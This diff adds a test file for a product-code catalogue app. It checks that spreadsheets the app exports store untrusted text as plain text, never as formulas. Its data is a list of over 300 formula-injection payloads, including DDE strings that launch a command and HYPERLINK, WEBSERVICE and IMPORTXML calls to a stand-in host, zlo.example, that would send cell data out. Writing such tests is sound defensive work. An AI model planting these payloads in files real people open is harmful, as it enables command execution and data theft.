@@ -1,0 +1,189 @@
+import { spawnSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { basename, join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { xlsxBytes } from '../../api/features/database-export/package/package-files.ts';
+import { correctedFile } from '../../api/features/verification/checking/corrected-file.ts';
+import { nothingSaid } from '../../api/features/verification/checking/judge-row.ts';
+import { openCodesFile } from '../../api/features/verification/checking/read-file.ts';
+import { ResultFiles } from '../../api/features/verification/checking/result-files.ts';
+import { writeSample } from '../../api/features/verification/sample-files.ts';
+import type { ProductRow } from '../../api/store/catalogue/product-rows.ts';
+import { toXlsx } from '../../pwa/core/page/table-file.ts';
+import { gtinOf } from '../support/look-ups.ts';
+import { unhurried } from '../support/run/pace.ts';
+
+const beginnings = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t=',
+  '\r=',
+  '\n=',
+  ' =',
+  "'=",
+  '"=',
+  '＝',
+  '＋',
+  '－',
+  '＠',
+  '\u00a0=',
+  '{=',
+  ';=',
+  ',=',
+  '%0A=',
+];
+const bodies = [
+  '1+1',
+  'SUM(A1:A9)',
+  'HYPERLINK("https://zlo.example?x="&A1,"Kliknij")',
+  "cmd|' /C calc'!A0",
+  'WEBSERVICE("https://zlo.example")',
+  'IMPORTXML("https://zlo.example","//a")',
+  'DDE("cmd";"/C calc";"x")',
+  'INDIRECT("A"&1)',
+  '48 501 502 503',
+  '5901234123457',
+  "2+5+cmd|' /C calc'!A0",
+  '<f>1+1</f>',
+  '</t></is></c><c><f>1+1</f></c>',
+  ']]><f>1+1</f>',
+  '&#61;1+1',
+  '_x003D_1+1',
+];
+/** Texts that a spreadsheet might take for formulas, in every place where a stranger's text comes into a file. */
+const payloads = beginnings.flatMap((beginning) => bodies.map((body) => beginning + body));
+
+const folder = mkdtempSync(join(tmpdir(), 'gtinoteka-openers-'));
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+const fileName = '=HYPERLINK("https://zlo.example";"kody").xlsx';
+const kinds = ['report', 'corrected', 'sample-result', 'sample-input', 'package', 'shown'] as const;
+const pathOf = (kind: string): string => join(folder, `${kind}.xlsx`);
+
+async function save(kind: (typeof kinds)[number], bytes: AsyncIterable<Uint8Array> | Uint8Array): Promise<void> {
+  const pieces: Uint8Array[] = [];
+  if (bytes instanceof Uint8Array) pieces.push(bytes);
+  else for await (const piece of bytes) pieces.push(piece);
+  writeFileSync(pathOf(kind), Buffer.concat(pieces));
+}
+
+async function saveReport(): Promise<void> {
+  const report = new ResultFiles(['GTIN', 'Nazwa', 'Marka'], ['xlsx']);
+  const saved = save('report', report.xlsx);
+  for (const text of payloads)
+    await report.add([text, text, text], {
+      ...nothingSaid,
+      state: 'bad',
+      reason: text,
+      holder: text,
+      ourName: text,
+      ourBrand: text,
+    });
+  const counts = { ok: 0, warn: 0, bad: payloads.length, none: 0, unchecked: 0 };
+  report.finish({ fileName, checkedAt: '23-11-2026', rows: payloads.length, codes: 0, counts });
+  await saved;
+}
+
+async function saveCorrected(): Promise<void> {
+  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
+  const lines = payloads.map((text, i) => [gtinOf('5901234', i).slice(1), text, text].map(quoted).join(';'));
+  const list = join(folder, 'list.csv');
+  writeFileSync(list, `GTIN;Nazwa;Marka\r\n${lines.join('\r\n')}\r\n`);
+  await save('corrected', correctedFile(await openCodesFile(list, folder)));
+}
+
+const productOf = (text: string, i: number): ProductRow =>
+  ({
+    gtin: gtinOf('5901234', i),
+    name: text,
+    brand: text,
+    description: text,
+    target_market: [text],
+    net_amounts: [],
+    net_units: [],
+    image_urls: [text],
+    is_public: true,
+    is_global: false,
+    gpc_path: null,
+    company_name: text,
+    last_modified: new Date(0),
+  }) as unknown as ProductRow; // what a package reads of it
+
+beforeAll(async () => {
+  await saveReport();
+  await saveCorrected();
+  await save('sample-result', await writeSample('result'));
+  await save('sample-input', await writeSample('input'));
+  async function* rows(): AsyncGenerator<ProductRow[]> {
+    yield payloads.map(productOf);
+  }
+  await save('package', xlsxBytes(rows(), false));
+  const shown = [['GTIN', 'Nazwa', 'Marka'], ...payloads.slice(0, 45).map((text) => ['05901234123457', text, text])];
+  await save('shown', new Uint8Array(await (await toXlsx(shown, 'Katalog')).arrayBuffer()));
+});
+
+/** Opens every workbook and tells, of each: cells that are formulas, cells with a value, and the texts of the first column that are codes. */
+const reader = `
+import json, sys, openpyxl
+told = {}
+for path in sys.argv[1:]:
+    book = openpyxl.load_workbook(path)
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    told[path] = {"formulas": [str(cell.value) for cell in cells if cell.data_type == "f"], "texts": [cell.value for cell in cells if cell.data_type == "s"]}
+print(json.dumps(told))
+`;
+
+const hasOpenpyxl = spawnSync('python3', ['-c', 'import openpyxl']).status === 0;
+const office = ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version']).status === 0);
+
+test.skipIf(!hasOpenpyxl)(
+  `openpyxl opens every workbook and finds no formula${hasOpenpyxl ? '' : ' (openpyxl is not there)'}`,
+  () => {
+    expect(payloads.length).toBeGreaterThan(300);
+    const answer = spawnSync('python3', ['-c', reader, ...kinds.map(pathOf)], {
+      encoding: 'utf8',
+      maxBuffer: 64 * 1_048_576,
+      timeout: unhurried(60_000),
+    });
+    expect(answer.status, answer.stderr).toBe(0);
+    const told: Record<string, { formulas: string[]; texts: string[] }> = JSON.parse(answer.stdout);
+    for (const kind of kinds) {
+      const { formulas, texts } = told[pathOf(kind)] ?? { formulas: ['nothing was told'], texts: [] };
+      // openpyxl calls a text that begins with = a formula unless its cell says that it is a text; ours all say so.
+      expect(formulas, kind).toEqual([]);
+      expect(texts.length, kind).toBeGreaterThan(10);
+    }
+    expect(told[pathOf('package')]?.texts.filter((text) => /^0590\d{10}$/.test(text))).toHaveLength(payloads.length);
+    expect(told[pathOf('report')]?.texts).toContain(fileName);
+    expect(told[pathOf('report')]?.texts).toContain('=1+1');
+  },
+);
+
+test.skipIf(!office)(
+  `LibreOffice converts every workbook and finds no formula${office ? '' : ' (LibreOffice is not there)'}`,
+  () => {
+    const profile = pathToFileURL(join(folder, 'profile')).href;
+    const answer = spawnSync(
+      office ?? '',
+      [
+        `-env:UserInstallation=${profile}`,
+        '--headless',
+        '--convert-to',
+        'fods',
+        '--outdir',
+        folder,
+        ...kinds.map(pathOf),
+      ],
+      { encoding: 'utf8', timeout: unhurried(180_000) },
+    );
+    expect(answer.status, answer.stderr).toBe(0);
+    for (const kind of kinds) {
+      const text = readFileSync(join(folder, `${basename(pathOf(kind), '.xlsx')}.fods`), 'utf8');
+      expect(text.match(/table:formula=/g) ?? [], kind).toEqual([]);
+      expect(text.match(/<table:table-cell/g)?.length, kind).toBeGreaterThan(10);
+    }
+  },
+);
